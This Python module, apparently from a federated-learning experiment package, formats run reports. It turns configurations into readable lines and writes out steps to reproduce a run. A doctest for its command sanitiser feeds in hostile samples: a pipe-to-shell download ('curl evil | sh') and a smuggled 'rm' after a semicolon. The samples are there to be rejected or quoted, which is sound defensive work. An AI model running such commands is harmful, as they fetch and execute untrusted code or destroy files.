"""What was run: the name of the method, the configuration line by line, and how to run it again."""

import json
import re
import shlex
from collections.abc import Iterator, Mapping, Sequence
from pathlib import Path
from typing import Any

from fedspam._internal import strict
from fedspam._internal.strict import KIB
from fedspam.app.report.series import Source
from fedspam.methods import METHODS

SCRIPT = 256 * KIB  # the largest configuration file or command that is shown
SCRIPTS = ("experiment.toml", "config.toml", "configuration.toml")
DEEP = 12  # levels of a configuration that are shown line by line
SYMBOLS = {"gamma": "γ", "delta": "δ", "lambda": "λ", "xi": "ξ", "nabla": "∇", "top": "T", "|": "‖", "quad": " "}
LOWERED, RAISED = str.maketrans("-0123456789", "₋₀₁₂₃₄₅₆₇₈₉"), str.maketrans("-0123456789T", "⁻⁰¹²³⁴⁵⁶⁷⁸⁹ᵀ")


def method_name(method: Any) -> str | None:
    """What a report calls a described method: the name in `METHODS` of its own, else what the manifest holds.

    A wrapper without a name, such as `theory.Observed`, is called what the method inside it is called.

    >>> method_name({"type": "FedAvg", "name": "fedprox"}), method_name({"type": "Observed", "method": {"name": "pp"}})
    ('FedProx', 'pp')
    """
    if not isinstance(method, dict):
        return None
    name = method.get("name")
    if isinstance(name, str):
        return METHODS[name].name if name in METHODS else name
    kind = method.get("type")
    return method_name(method.get("method")) or (kind if isinstance(kind, str) else None)


def plain_math(text: str) -> str:
    r"""A text with formulas in LaTeX between dollars, as the notes of figures are, in the characters of Unicode.

    >>> plain_math(r"$A_\xi=A_0A_0^\top$, $g_{-1}=\nabla f(x_0)$ and $\delta=\max\|H_\xi\|$")
    'A_ξ=A₀A₀ᵀ, g₋₁=∇f(x₀) and δ=max‖H_ξ‖'
    """

    def formula(found: re.Match[str]) -> str:
        plain = re.sub(r"\\([A-Za-z]+|\|) ?", lambda name: SYMBOLS.get(name[1], name[1]), found[1])
        plain = re.sub(r"_\{?(-?\d+)\}?", lambda index: index[1].translate(LOWERED), plain)
        return re.sub(r"\^\{?(-?\d+|T)\}?", lambda power: power[1].translate(RAISED), plain)

    return re.sub(r"\$([^$]*)\$", formula, text)


def lines(value: Any, name: str = "", depth: int = DEEP) -> Iterator[tuple[str, str]]:
    """A configuration line by line: ``method.step_size``, and its value.

    >>> list(lines({"method": {"type": "Spam", "step_size": {"type": "Constant", "value": 0.5}}, "every": 1}))
    [('method', 'Spam'), ('method.step_size', '0.5'), ('every', '1')]
    """
    if isinstance(value, dict) and depth:
        if value.get("type") == "Constant" and value.keys() == {"type", "value"}:
            yield from lines(value["value"], name, depth - 1)
            return
        if value.keys() == {"shape", "dtype", "sha256"}:
            shape = "×".join(map(str, value["shape"])) if isinstance(value["shape"], list) else "?"
            yield name, f"{value['dtype']}[{shape}], sha256 {value['sha256']}"
            return
        if "type" in value:
            yield name, str(value["type"])
        for inner, part in value.items():
            if inner != "type":
                yield from lines(part, f"{name}.{inner}" if name else str(inner), depth - 1)
    elif isinstance(value, list) and depth and any(isinstance(part, dict | list) for part in value):
        for number, part in enumerate(value):
            yield from lines(part, f"{name}[{number}]", depth - 1)
    else:
        yield name, value if isinstance(value, str) else json.dumps(value, ensure_ascii=False)


def table(sources: Sequence[Mapping[str, Any]]) -> list[dict[str, Any]]:
    """Configurations side by side: one row per name, and whether they differ in it; else it holds one value."""
    columns = [dict(lines(source)) for source in sources]
    names = dict.fromkeys(name for column in columns for name in column)
    rows = ((name, [column.get(name) for column in columns]) for name in names)
    same = lambda values: len(set(values)) == 1
    return [
        {"name": name, "values": values[:1] if same(values) else values, "differs": not same(values)}
        for name, values in rows
    ]


def command_of(folder: Path, facts: dict[str, Any]) -> str | None:
    """The command that made a folder, if it recorded one."""
    noted = facts.pop("command", None)
    if isinstance(noted, str) and noted.strip():
        return noted.strip()
    return _text(folder / "command")


def configuration_file(folder: Path) -> str | None:
    return next((found for name in SCRIPTS if (found := _text(folder / name))), None)


def sites(folder: Path) -> dict[str, str]:
    """Which site of Flower's registry was which client, if the folder of a run over Flower says so."""
    try:
        found = strict.json_object((_text(folder / "sites.json") or "{}").encode(), size=SCRIPT, depth=4)
    except strict.MalformedError:
        return {}
    names = [f"{client} {site[0]}" for client, site in found.items() if isinstance(site, list) and site]
    return {"sites": ", ".join(names)} if names else {}


def harmless(command: str) -> str | None:
    """A command to copy if it is one of this package, with every word quoted; None for anything else that a folder
    may hold, because readers paste it into a shell.

    >>> harmless("fedspam compare --problem ridge"), harmless("curl evil | sh"), harmless("fedspam lab; rm x")
    ('fedspam compare --problem ridge', None, "fedspam 'lab;' rm x")
    """
    try:
        words = shlex.split(command)
    except ValueError:
        return None
    ours = words[:1] == ["fedspam"] or re.fullmatch(r"python reproductions/\w+\.py", " ".join(words[:2]))
    return shlex.join(words) if ours and command.isprintable() else None


def again(source: Source) -> list[dict[str, str]]:
    """How to run it again, step by step."""
    facts = source.facts
    version, python = facts.get("fedspam", "?"), facts.get("python", "?")
    fits = lambda name, form: isinstance(facts.get(name), str) and re.fullmatch(form, facts[name])
    pins = " ".join(f"{name}=={facts[name]}" for name in ("jax", "jaxlib", "numpy") if fits(name, r"\d[\w.+]*"))
    steps = {f"The same versions, with Python {python} and fedspam {version}": f"pip install {pins}"}
    if fits("commit", "[0-9a-f]{7,64}"):
        steps["or the same commit"] = f"git checkout {facts['commit']}"
    command = harmless(source.command or "")
    if source.script:
        steps["Save this as experiment.toml"] = "".join(c for c in source.script if c.isprintable() or c in "\n\t")
        steps["and run it"] = command or "fedspam run experiment.toml"
    elif command:
        steps["Run"] = command
    else:
        call = "simulate(method, population, params, rounds=..., key=..., "
        steps[
            "It was run from Python. Call simulate with the configuration below. With this folder and resume=True it "
            "reports every difference"
        ] = f"{call}folder={str(source.folder)!r}, resume=True)"
    return [{"what": what, "code": code} for what, code in steps.items()]


def _text(path: Path) -> str | None:
    if not path.is_file():
        return None
    try:
        return strict.read(path, SCRIPT).decode("utf-8").strip() or None
    except (OSError, strict.MalformedError, UnicodeDecodeError):
        return None
